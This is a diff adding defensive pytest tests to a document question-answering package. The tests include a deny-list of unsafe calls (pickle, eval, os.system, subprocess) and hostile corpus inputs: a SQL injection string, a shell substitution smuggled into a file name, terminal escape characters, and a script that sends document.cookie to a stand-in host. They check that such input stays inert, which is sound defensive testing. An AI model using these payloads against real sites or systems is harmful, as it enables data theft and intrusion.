@@ -419,3 +419,80 @@ def test_a_50_mb_file_is_read_and_chunked_in_bounded_time_and_memory(tmp_path: P
     assert figures["documents"] == 1 and figures["text"] > 49_000_000 and figures["chunks"] > 50_000
     assert figures["seconds"] < 120, figures
     assert figures["max_rss_mb"] < 2500, figures  # about 17x the file: text, lines, sentences and chunks
+
+
+# ---- untrusted text: never unpickled, never SQL, never run --------------------------------
+
+PACKAGE_SOURCES = sorted((ROOT / "lifqa").rglob("*.py")) + [ROOT / "app.py"]
+UNSAFE = {
+    "pickle.load": r"\bpickle\.loads?\(|\bimport pickle\b|cPickle",
+    "joblib.load": r"\bjoblib\.load\(",
+    "allow_pickle=True": r"allow_pickle\s*=\s*True",
+    "torch.load": r"\btorch\.load\(",
+    "yaml.load": r"\byaml\.(unsafe_)?load\(",
+    "eval/exec": r"(?<![\w.])(eval|exec)\(",
+    "shell": r"\bos\.(system|popen)\(|shell\s*=\s*True|\bsubprocess\b",
+    "marshal": r"\bmarshal\.loads?\(",
+}
+
+
+@pytest.mark.parametrize("what", list(UNSAFE))
+def test_package_never_unpickles_or_runs_text(what):
+    import re
+
+    pattern = re.compile(UNSAFE[what])
+    hits = [f"{path.relative_to(ROOT)}:{n}" for path in PACKAGE_SOURCES if path.is_file()
+            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
+    assert hits == []
+
+
+def test_index_loaders_refuse_pickles_by_default():
+    import inspect
+
+    import bm25s
+    import numpy as np
+
+    assert inspect.signature(bm25s.BM25.load).parameters["allow_pickle"].default is False
+    assert inspect.signature(np.load).parameters["allow_pickle"].default is False
+
+
+def test_sql_is_parameterised_only():
+    """Every execute/executemany/executescript gets a constant SQL string; values go in parameters."""
+    import ast
+
+    calls = []
+    for path in PACKAGE_SOURCES:
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        constants = {t.id for node in tree.body if isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant)
+                     and isinstance(node.value.value, str) for t in node.targets if isinstance(t, ast.Name)}
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in {"execute", "executemany", "executescript"}:
+                sql = node.args[0] if node.args else None
+                constant = isinstance(sql, ast.Constant) and isinstance(sql.value, str)
+                calls.append((f"{path.name}:{node.lineno}", constant or (isinstance(sql, ast.Name) and sql.id in constants)))
+    assert calls and [where for where, ok in calls if not ok] == []
+
+
+def test_hostile_corpus_text_is_stored_verbatim_and_stays_inert(tmp_path: Path):
+    import lifqa
+    from lifqa.render import answer_text
+
+    marker = tmp_path / "pwned"
+    sql = "Robert'); DROP TABLE documents; -- LIF binds gp130 in this record."
+    shell = f"The sample $(touch {marker}) and `touch {marker}` were stored with LIF at 4 °C."
+    folder = _messy_folder(tmp_path, "corpus", {
+        "sql.txt": sql,
+        f"$(touch {marker.name}).txt": shell,
+        "escapes.txt": "LIF\x1b[2J\x1b[31m signals \x9b2J through\u202e gp130 and LIFR.",
+        "script.md": "# LIF page\n\n<p>LIF is a cytokine.</p><script>fetch('http://x/?c='+document.cookie)</script>",
+    })
+    build_index(folder, tmp_path / "index", make_settings(sentence_vectors=False))
+    engine = lifqa.open(str(tmp_path / "index"))
+    texts = {s.document.doc_id: s.document.text for s in engine.sources()}
+    assert texts["sql"] == sql and texts[f"$(touch {marker.name})"] == shell
+    assert texts["escapes"] == "LIF[2J[31m signals 2J through gp130 and LIFR."  # escape characters removed, text kept
+    assert "fetch" not in texts["script"] and "LIF is a cytokine." in texts["script"]
+    assert not marker.exists()
+    shown = answer_text(engine.ask("Which record mentions DROP TABLE documents and gp130?"))
+    assert not any(ch in shown for ch in "\x1b\x9b\u202e")
+    assert len(engine.sources()) == 4  # the documents table survived its own contents
